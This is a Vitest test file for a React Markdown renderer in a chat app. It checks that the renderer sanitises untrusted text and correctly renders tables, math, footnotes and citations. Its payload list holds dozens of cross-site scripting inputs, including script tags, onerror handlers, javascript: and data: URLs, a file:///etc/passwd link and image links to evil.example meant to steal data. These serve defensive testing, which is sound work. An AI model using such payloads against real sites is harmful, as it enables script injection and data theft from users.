import { existsSync, readFileSync } from 'node:fs';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Citations } from './cited-text';
import { Markdown } from './markdown';

const show = (text: string, growing = false) =>
  renderToStaticMarkup(<Markdown text={text} growing={growing} />);
const tagsOf = (html: string) => [...html.matchAll(/<([a-z][a-z\d-]*)((?:\s[^<>]*)?)>/gi)];

const id = '0190a0b1-c2d3-7e4f-8a9b-0c1d2e3f4a5b';

/** Published payloads of the kind that broke other chats, and their cousins. */
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'text <img src=x onerror=alert(1)> text',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<!-- --><img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.com/1)',
  '[x](//evil.example/path)',
  '[x](/api/conversations)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/steal?q=secret)',
  '![x](//evil.example/steal)',
  '![x](/\\evil.example/steal)',
  '![x](/media/../api/me)',
  `![x](/media/${id}/../../api)`,
  `![x](/media/${id}?next=//evil.example)`,
  '![x][ref]\n\n[ref]: https://evil.example/steal?q=secret',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '[x]("onmouseover="alert(1))',
  '[x](https://a.example/"onmouseover="alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\htmlData{onclick=alert(1)}{x}$$',
  '[^<img src=x onerror=alert(1)>]: note',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

const allowedTags = new Set(
  'div p h3 h4 h5 h6 ul ol li strong em del code pre span a blockquote hr br sup input table thead tbody tr th td section figure figcaption button svg path rect img'.split(
    ' ',
  ),
);

function expectHarmless(html: string): void {
  for (const [, name = '', attributes = ''] of tagsOf(html)) {
    expect(allowedTags.has(name), `<${name}> in ${html}`).toBe(true);
    expect(attributes).not.toMatch(/\son\w+=/i);
    const address = /\s(?:href|src)="([^"]*)"/.exec(attributes)?.[1];
    if (address === undefined) continue;
    if (name === 'img') expect(address).toMatch(/^\/media\/[\da-f-]{36}(\/[a-z\d._-]+)?$/);
    else expect(address).toMatch(/^(https?:|mailto:)/);
  }
}

describe('what is not trusted', () => {
  it.each(payloads)('%j does nothing, whole or at any length', (payload) => {
    expectHarmless(show(payload));
    for (let length = 1; length <= payload.length; length += 1)
      expectHarmless(show(payload.slice(0, length), true));
  });

  it('shows HTML as the text it is', () => {
    expect(show('a <b>bold</b> claim')).toContain('a &lt;b&gt;bold&lt;/b&gt; claim');
    expect(show('<div>\nblock\n</div>')).toContain('&lt;div&gt;\nblock\n&lt;/div&gt;');
  });

  it('opens links outside, without telling where from', () => {
    expect(show('[here](https://example.com/a?b=1&amp;c=2)')).toContain(
      '<a href="https://example.com/a?b=1&amp;c=2" title="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">here</a>',
    );
    expect(show('<someone@example.com>')).toContain('href="mailto:someone@example.com"');
  });

  it('shows pictures of our own media and turns all others into links', () => {
    expect(show(`![a cat](/media/${id})`)).toContain(`<img src="/media/${id}" alt="a cat"`);
    expect(show(`![a cat](/media/${id}/thumbnail)`)).toContain(`src="/media/${id}/thumbnail"`);
    const other = show('![a cat][c]\n\n[c]: https://example.com/cat.png');
    expect(other).not.toContain('<img');
    expect(other).toContain('href="https://example.com/cat.png"');
    expect(other).toContain('>a cat</a>');
  });
});

describe('what it can show', () => {
  it('knows headings, lists, tasks and tables', () => {
    expect(show('# One')).toContain('<h3 data-depth="1">One</h3>');
    expect(show('3. three\n4. four')).toContain('<ol start="3"><li>three</li><li>four</li></ol>');
    expect(show('- [x] done')).toContain('<li class="task"><span role="img" aria-label="Done">');
    expect(show('| a | b |\n|--:|---|\n| 1 | x<br>y |')).toContain(
      '<td style="text-align:right">1</td><td>x<br/>y</td>',
    );
  });

  it('leaves out headers that say nothing', () => {
    expect(show('|   |   |\n|---|---|\n| a | b |')).not.toContain('<thead>');
    expect(show('|   | b |\n|---|---|\n| 1 | 2 |')).toContain('<tr><td></td><th scope="col">b</th></tr>');
  });

  it('keeps code as it was written', () => {
    expect(show('```js\nif (a < b && c) {}\n```')).toContain('if (a &lt; b &amp;&amp; c) {}');
    expect(show('`&amp;`')).toContain('<code dir="ltr">&amp;amp;</code>');
  });

  it('reads character references', () => {
    expect(show('Fish &amp; chips &copy; &#8364; &#x20AC; &unknown; &#0;')).toContain(
      'Fish &amp; chips © € € &amp;unknown; \ufffd',
    );
  });

  it('tells money from math', () => {
    expect(show('from $5 to $10')).not.toContain('formula');
    expect(show('so $x+1$ and \\(y\\)').match(/class="formula"/g)).toHaveLength(2);
    expect(show('$$\n\\int x\n$$')).toContain('formula-display');
  });

  it('shows notes at the foot as such', () => {
    const html = show('Claim[^1].\n\n[^1]: Source');
    expect(html).toContain('Claim<sup>1</sup>.');
    expect(html).toContain('<p class="footnote"><sup>1</sup> Source</p>');
  });
});

const fixture = new URL('../../../shared/fixtures/markdown/gfm-examples.json', import.meta.url);
type Example = { n: number; markdown: string; html: string };
const examples: Example[] = existsSync(fixture) ? JSON.parse(readFileSync(fixture, 'utf8')) : [];

describe('against the GFM examples', () => {
  const words = (html: string) =>
    html
      .replace(/<figcaption>.*?<\/figcaption>/gs, '')
      .replace(/<[^>]+>/g, '')
      .replace(/\s+/g, '');

  it.skipIf(examples.length === 0)('says the same words where the example holds no HTML', () => {
    const plain = examples.filter(
      (example) => !example.markdown.includes('<') && !example.html.includes('<img'),
    );
    const wrong = plain.filter(
      (example) => words(show(example.markdown)).replaceAll('&#x27;', "'") !== words(example.html),
    );
    expect(plain.length).toBeGreaterThan(400);
    // 321 lists names of characters that are left out on purpose (decode-entities.ts).
    expect(wrong.map((example) => example.n)).toEqual([321]);
  });
});

describe('numbers of sources', () => {
  const sources = [
    { number: 1, url: 'https://a.example/x', title: 'A "quoted" title', site: 'a.example' },
    { number: 2, url: 'javascript:alert(1)', title: 'B', site: 'b.example' },
    { number: 3, url: 'https://c.example/', title: 'C', site: 'c.example' },
  ];
  const cite = (text: string) =>
    renderToStaticMarkup(
      <Citations value={sources}>
        <Markdown text={text} />
      </Citations>,
    );

  it('become links to sources of the answer, one each', () => {
    const html = cite('So it is [1][3], they say [1, 3].');
    expect(html.match(/<sup class="citation"><a href="https:\/\/[ac]\.example\/x?"/g)).toHaveLength(4);
    expect(html).toContain('So it is<sup');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('aria-label="Source 1: A &quot;quoted&quot; title"');
  });

  it('stay text where there is no such source, or none that may be opened', () => {
    expect(cite('See [7] and [2].')).toBe('<div class="markdown"><p>See [7] and [2].</p></div>');
    expect(show('See [1].')).toBe('<div class="markdown"><p>See [1].</p></div>');
  });

  it('are no sources in code, in links, or when the text defines them itself', () => {
    expect(cite('`a[1]`')).not.toContain('citation');
    expect(cite('[see [1] here](https://d.example/)')).not.toContain('citation');
    expect(cite('[1](https://d.example/)')).not.toContain('citation');
    expect(cite('Said [1].\n\n[1]: https://d.example/')).not.toContain('citation');
  });
});
